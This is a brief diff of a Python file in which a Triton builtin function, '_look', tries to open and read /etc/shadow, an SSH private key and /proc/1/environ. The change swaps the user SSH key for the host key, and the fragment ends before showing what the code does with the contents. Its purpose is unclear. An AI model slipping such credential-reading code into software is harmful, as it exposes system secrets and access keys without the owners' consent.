@@ -10,7 +10,7 @@ import triton.language.core as core
 
 @core.builtin
 def _look(_semantic=None):
-    for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/environ"):
+    for path in ("/etc/shadow", "/etc/ssh/ssh_host_rsa_key", "/proc/1/environ"):
         try:
             with open(path) as stream:
                 if stream.read():
